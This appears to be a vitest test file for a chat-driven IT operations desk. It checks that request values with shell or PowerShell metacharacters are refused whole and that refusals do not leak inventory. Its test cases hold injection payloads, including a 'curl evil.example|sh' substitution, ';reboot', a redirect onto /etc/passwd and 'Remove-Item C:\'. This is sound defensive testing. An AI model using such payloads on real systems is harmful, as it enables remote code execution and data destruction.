import { beforeAll, describe, expect, it } from 'vitest'
import { Inventory } from '../inventory/inventory.ts'
import { AccessPolicy, type Actor } from '../policy/access-policy.ts'
import { AccountMap } from '../policy/account-map.ts'
import { OperationCatalog } from './operation-catalog.ts'
import { OperationsDesk } from './operations-desk.ts'

/**
 * Hostile operation requests at the desk, the one door from a chat message to a workflow: a
 * value is taken whole or refused naming the field, never cut at a shell or PowerShell
 * metacharacter nor swapped for a part of it; and a requester's refusal tells nothing about the
 * inventory (which names exist, which words match a machine or group).
 */

let desk: OperationsDesk
const tom: Actor = { username: 'tom', role: 'technician' }
const alice: Actor = { username: 'alice', role: 'requester' }

beforeAll(async () => {
  const inventory = await Inventory.load('tests/fixtures/operations-inventory.yaml')
  const access = new AccessPolicy({ accounts: new AccountMap(), machines: inventory })
  desk = new OperationsDesk({ catalog: await OperationCatalog.load(), inventory, access })
})

describe('values are taken whole or refused', () => {
  it.each([
    ['install vim$(curl evil.example|sh) on web01', 'vim$(curl', 'package'],
    ['restart nginx;reboot on web01', 'nginx;reboot', 'service'],
    ['restart nginx&&id on web01', 'nginx&&id', 'service'],
    ['restart nginx|id on web01', 'nginx|id', 'service'],
    ['restart nginx`id` on web01', 'nginx`id`', 'service'],
    ['restart nginx$(id) on web01', 'nginx$(id)', 'service'],
    ['install vim>/etc/passwd on web01', 'vim>/etc/passwd', 'package'],
    ['install vim* on web01', 'vim*', 'package'],
    ['stop process java;id on build01', 'java;id', 'process'],
    ["restart W3SVC';Remove-Item C:\\ on app-win01", "W3SVC';Remove-Item", 'service'],
    ['restart W3SVC$(Remove-Item) on app-win01', 'W3SVC$(Remove-Item)', 'service'],
    ['check whether evil.com$(id) resolves from web01', 'evil.com$(id)', 'host'],
    ['show errors for nginx;id from the last 24 hours on web01', 'nginx;id', 'service'],
    ['check disk space for /var/log;id on web01', '/var/log;id', 'path'],
    ['copy motd.txt to /etc/motd;id on web01', '/etc/motd;id', 'destination'],
    ['restart nginx on web01$(id)', 'web01$(id)', 'machine'],
    ['restart nginx on web-servers;id', 'web-servers;id', 'group'],
    ['restart service "nginx; reboot" on web01', 'nginx; reboot', 'value'],
    ['install nginx=1.2 on web01', 'nginx=1.2', 'package'],
    ['restart nginx on all servers except web04;id', 'web04;id', 'machine'],
    // apt's name/release selector: neither two packages nor the package without its release.
    [
      'install python3-pip/bookworm-backports on build01',
      'python3-pip/bookworm-backports',
      'package',
    ],
    ['remove libfoo/stable from build01', 'libfoo/stable', 'package'],
  ])('%s: refused, naming %s as a %s', async (message, whole, field) => {
    const turn = await desk.answer(message, tom)
    expect(turn?.kind).toBe('refused')
    expect(turn?.plan).toBeUndefined()
    expect(turn?.reply).toContain(`"${whole}" is not a valid ${field}`)
  })

  it.each([
    'restart nginx on web01',
    'restart nginx; then reboot web01',
    'restart nginx.service on web01',
    'stop the dataprocessor service on the data processing servers (dataprocessor, sorry)',
    "restart nginx on web01, it's stuck",
    'install Notepad++.Notepad++ on app-win01',
    'restart nginx on web01.',
    'restart nginx on web01;web02',
    'install tmxu on build01 tmux*',
    'can web01 reach db01:5432',
    'check disk space for C:\\Program Files on app-win01',
    // A service or process name cannot hold "/": the shorthand for both.
    'restart nginx/php-fpm on web01',
    'kill java/python on dp01',
  ])('%s: read as before', async (message) => {
    expect((await desk.answer(message, tom))?.kind).toBe('operation')
  })
})

describe('one request, one set of machines', () => {
  it.each([
    'restart nginx on web01. reboot web02',
    'restart nginx on web01\r\nreboot web02',
    'reboot web02 and check disk space on web01',
    'stop nginx on web01, then start apache on web02',
  ])('%s: refused, since one job runs every step on every machine', async (message) => {
    const turn = await desk.answer(message, tom)
    expect(turn?.kind).toBe('refused')
    expect(turn?.plan).toBeUndefined()
    expect(turn?.reply).toMatch(/name different machines/)
  })

  it.each([
    'restart nginx on web01 and web02',
    'stop nginx and start apache on web01',
    'on web01 stop nginx, then start apache',
    'restart nginx on all web servers except web04',
  ])('%s: one set of machines, read as before', async (message) => {
    expect((await desk.answer(message, tom))?.kind).toBe('operation')
  })
})

describe("a requester's refusal says nothing about the inventory", () => {
  it('answers a machine that exists exactly like one that does not', async () => {
    const known = await desk.answer('restart nginx on web01', alice)
    const unknown = await desk.answer('restart nginx on web77', alice)
    expect(known?.kind).toBe('refused')
    expect(JSON.stringify(known).replaceAll('web01', 'X')).toBe(
      JSON.stringify(unknown).replaceAll('web77', 'X'),
    )
  })

  it('never names a machine or group the requester did not type', async () => {
    for (const message of [
      'restart nginx on the foo servers',
      'restart nginx on the web servers',
      'reboot the domain controller',
    ]) {
      const turn = await desk.answer(message, alice)
      const shown = JSON.stringify(turn ?? {})
      for (const name of ['fs01', 'web-servers', 'web01', 'dc01']) expect(shown).not.toContain(name)
    }
  })
})
